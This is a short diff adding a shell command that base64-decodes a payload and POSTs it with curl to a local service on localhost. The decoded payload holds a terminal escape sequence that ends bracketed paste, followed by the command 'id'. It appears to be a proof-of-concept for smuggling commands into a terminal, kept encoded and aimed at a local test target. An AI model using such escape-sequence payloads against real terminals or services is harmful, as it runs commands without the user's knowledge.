@@ -1,0 +1,6 @@
+echo 'YRtbMjAxfgppZAo=' | base64 -d |
+curl 'http://localhost:3000/b/x7k2' \
+  -H 'User-Agent: curl/8.5.0' \
+  -H 'Accept: */*' \
+  -H 'Content-Type:' \
+  --data-binary @-
